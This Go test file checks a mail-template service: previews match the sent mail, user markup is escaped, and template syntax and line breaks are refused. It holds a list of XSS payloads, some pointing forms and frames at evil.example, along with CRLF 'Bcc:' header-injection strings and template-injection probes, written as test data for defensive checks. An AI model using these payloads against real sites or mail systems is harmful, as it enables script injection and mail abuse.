package api_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"google.golang.org/protobuf/types/known/timestamppb"

	"herald/shared/fault"
	"herald/shared/gen/fault/textfault"
	textv1 "herald/shared/gen/herald/text/v1"
	usersv1 "herald/shared/gen/herald/users/v1"
	"herald/shared/mail"
	"herald/shared/mailer"
)

func (w world) preview(r *textv1.SetMessageTextRequest) *textv1.PreviewMessageTextResponse {
	w.Helper()
	got, err := w.gateway.PreviewMessageText(w.As("o1", "ORG_OWNER_VIEWER"), r)
	w.Must(nil, err)
	return got
}

// A preview has the given parts, default texts for the others, and a link like the mail's.
func TestPreviewHasGivenAndDefaultTextsAndALink(t *testing.T) {
	t.Parallel()
	w := open(t)
	for kind, link := range map[string]string{
		"init": "http://localhost:8080/ui/login/user/init?userID=sample-user&code=K7MPX4RD" +
			"&orgID=sample-organization&passwordset=false&lang=de",
		"verifyemail": "http://localhost:8080/ui/login/mail/verification?userID=sample-user&code=K7MPX4RD" +
			"&orgID=sample-organization&lang=de",
		"passwordreset": "http://localhost:8080/ui/login/password/reset?userID=sample-user&code=K7MPX4RD" +
			"&orgID=sample-organization&lang=de",
	} {
		t.Run(kind, func(t *testing.T) {
			r := &textv1.SetMessageTextRequest{Kind: kind, Language: "DE", Subject: "{{.OrgName}} & Co",
				Text: "<b>{{ .FirstName }}</b>\r\n{{.LastEmail}} {{.Expiry}}", ButtonText: "Los"}
			got := w.preview(r)
			if got.Subject != "Example Ltd & Co" {
				t.Errorf("subject %q", got.Subject)
			}
			greeting := "Guten Tag Ada Lovelace,"
			if kind == "verifyemail" { // may reach somebody else
				greeting = "Guten Tag,"
			}
			until := "8.\u00a0Januar\u00a02026"
			for _, want := range []string{"\n<b>Ada</b>\nada.lovelace@example.com " + until + "\n\nLos\n" + link +
				"\n\nK7MPX4RD\n", "\n" + greeting + "\n"} {
				if !strings.Contains(got.Text, want) {
					t.Errorf("%q is not in\n%s", want, got.Text)
				}
			}
			for _, want := range []string{`<html lang="de"`, "&lt;b&gt;Ada&lt;/b&gt;<br>ada.lovelace@example.com",
				`href="` + strings.ReplaceAll(link, "&", "&amp;") + `"`} {
				if !strings.Contains(got.Html, want) {
					t.Errorf("the HTML lacks %q", want)
				}
			}
			if strings.Contains(got.Subject+got.Text+got.Html, "{{") {
				t.Errorf("a placeholder is left in %v", got)
			}
			if again := w.preview(r); again.Html != got.Html || again.Text != got.Text {
				t.Errorf("the second preview differs")
			}
		})
	}
	if len(w.events()) != 0 || !w.read("o1", "de").IsDefault {
		t.Error("a preview was saved")
	}
}

// A preview is equal to the mail with the saved text for the same reader.
func TestPreviewEqualsTheMail(t *testing.T) {
	t.Parallel()
	w := open(t)
	own := &textv1.SetMessageTextRequest{
		Kind: "passwordreset", Language: "ja", Title: "題 {{.NickName}}", FooterText: "a\n\nb",
	}
	w.set("o1", own)
	saved, err := w.mailer.ResolveMessageText(t.Context(), &textv1.ResolveMessageTextRequest{
		OrgId: "o1", Kind: "passwordreset", PreferredLanguage: "ja",
	})
	if err != nil {
		t.Fatal(err)
	}
	rendered, err := mailer.Mail{
		PublicURL: "http://localhost:8080", Kind: "passwordreset", UserID: "sample-user", Text: saved.CustomText,
		Language: saved.Language,
		Reader: &usersv1.PrepareMailResponse{
			NickName: "Ada", DisplayName: "Ada Lovelace", UserName: "ada.lovelace", OrgId: "sample-organization",
			OrgName: "Example Ltd",
			Expiry:  timestamppb.New(time.Date(2026, 1, 8, 9, 30, 0, 0, time.UTC)),
		},
	}.Render()
	if err != nil {
		t.Fatal(err)
	}
	if rendered, err = rendered.Fill("K7MPX4RD"); err != nil {
		t.Fatal(err)
	}
	if got := w.preview(own); got.Subject != rendered.Subject || got.Text != rendered.Text ||
		got.Html != rendered.HTML {
		t.Errorf("previewed\n%s\nsent\n%s", got.Text, rendered.Text)
	}
}

// payloads are markup from the usual collections.
var payloads = strings.Split(`<script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</p></td></tr></table><h1>Your account is locked</h1>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
<a href="https://evil.example">Click</a>
<a href='javascript:alert(1)'>x</a>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<iframe src=//evil.example>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,x">
<embed src=x>
<form action=https://evil.example><input name=password>
<button formaction=javascript:alert(1)>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<style>body{display:none}</style>
<style>@import "//evil.example/x.css";</style>
<body onload=alert(1)>
<html lang=x>
<!-- hidden -->
<!--[if mso]><script>alert(1)</script><![endif]-->
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<!DOCTYPE html>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
" style="position:fixed;top:0
" autofocus onfocus=alert(1) x="
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
&#x3c;img src=x&#x3e;
&nbsp;&zwnj;&amp;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)
\x3cscript\x3e
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>script>alert(1)
<script
<
</
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1)></select>
<textarea></textarea><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<table background="javascript:alert(1)">
<div style="background:url(javascript:alert(1))">
<isindex action=javascript:alert(1)>
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)
${7*7} #{7*7} <%= 7*7 %> {% x %}
javascript:alert(1)`, "\n")

// read returns a document's elements with their attributes, without br, and its texts.
func read(t *testing.T, document string) (elements, texts []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(document))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		switch {
		case n.Type == html.TextNode:
			texts = append(texts, n.Data)
		case n.Data != "br":
			elements = append(elements, fmt.Sprint(n.Data, n.Attr))
		}
	}
	return elements, texts
}

// Markup in any part is shown as text in the mail.
func TestMarkupIsShownAsText(t *testing.T) {
	t.Parallel()
	w := open(t)
	if len(payloads) < 60 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	plain := map[string][]string{}
	for _, kind := range []string{"init", "passwordchanged"} {
		plain[kind], _ = read(t, w.preview(&textv1.SetMessageTextRequest{Kind: kind, Language: "en"}).Html)
	}
	for _, payload := range payloads {
		kind, parts := "init", 7 // each part once; the subject is the title of the document
		if mail.Link(payload) != "" {
			kind, parts = "passwordchanged", 6 // a notice may have an address, and has no button
		}
		r := &textv1.SetMessageTextRequest{Kind: kind, Language: "en", Title: payload, PreHeader: payload,
			Subject: payload, Greeting: payload, Text: payload, ButtonText: payload, FooterText: payload}
		w.set("o1", r)
		stored, err := w.gateway.GetMessageText(w.As("o1", "ORG_OWNER_VIEWER"),
			&textv1.GetMessageTextRequest{Kind: kind, Language: "en"})
		w.Must(stored, err)
		if got := stored.CustomText; got.Title != payload || got.Text != payload || got.FooterText != payload {
			t.Errorf("%q is read as %v", payload, got)
		}
		got := w.preview(r)
		elements, texts := read(t, got.Html)
		if !slices.Equal(elements, plain[kind]) {
			t.Errorf("%q makes\n%q\nwant\n%q", payload, elements, plain[kind])
		}
		shown := 0
		for _, text := range texts {
			shown += strings.Count(text, payload)
		}
		if got.Subject != payload || shown != parts {
			t.Errorf("%q is shown %d times as it is written", payload, shown)
		}
	}
}

// Template languages and line breaks are refused in every part.
func TestTemplatesAndLineBreaksAreRefused(t *testing.T) {
	t.Parallel()
	w := open(t)
	attacks := []string{
		"{{.}}", "{{$}}", `{{printf "%s" .}}`, "{{range .}}{{end}}", "{{call .Code}}", `{{template "x"}}`,
		"{{.Code.String}}", "{{.Code|html}}", "{{- .OrgID -}}",
		"{{/* x */}}", "{{.Password}}", "{{", "}}", "{{{.OrgID}}}}", "{{.OrgID", strings.Repeat("{", 1000),
		strings.Repeat("{{.OrgID", 200),
		"a\rBcc: b@example.com", "a\x00b", "a\u2028Bcc: b@example.com", "a\u0085b", "a\x0bb", "\x1b[2J", "a\u202eb",
	}
	headers := []string{"a\r\nBcc: b@example.com", "a\nBcc: b@example.com", "a\r\n\r\n<script>", "a\tb"}
	parts := map[string]func(*textv1.SetMessageTextRequest, string){
		"title":      func(r *textv1.SetMessageTextRequest, s string) { r.Title = s },
		"preHeader":  func(r *textv1.SetMessageTextRequest, s string) { r.PreHeader = s },
		"subject":    func(r *textv1.SetMessageTextRequest, s string) { r.Subject = s },
		"greeting":   func(r *textv1.SetMessageTextRequest, s string) { r.Greeting = s },
		"text":       func(r *textv1.SetMessageTextRequest, s string) { r.Text = s },
		"buttonText": func(r *textv1.SetMessageTextRequest, s string) { r.ButtonText = s },
		"footerText": func(r *textv1.SetMessageTextRequest, s string) { r.FooterText = s },
	}
	owner := w.As("o1", "ORG_OWNER")
	for part, put := range parts {
		refuse := func(ctx context.Context, attack string) {
			r := &textv1.SetMessageTextRequest{Kind: "init", Language: "en"}
			put(r, attack)
			_, err := w.gateway.SetMessageText(ctx, r)
			refused(t, err, textfault.ErrMessageTextInvalid, part)
		}
		for _, attack := range attacks {
			refuse(owner, attack)
		}
		for _, attack := range headers {
			if part == "text" || part == "footerText" {
				continue
			}
			refuse(owner, attack)
		}
	}
	// The bound of the field refuses a million braces before they are parsed.
	_, err := w.gateway.SetMessageText(owner, &textv1.SetMessageTextRequest{
		Kind: "init", Language: "en", Text: strings.Repeat("{", 1_000_000),
	})
	refused(t, err, fault.ErrInvalidArgument, "text")
	if len(w.events()) != 0 {
		t.Errorf("something was saved: %v", w.events())
	}
}
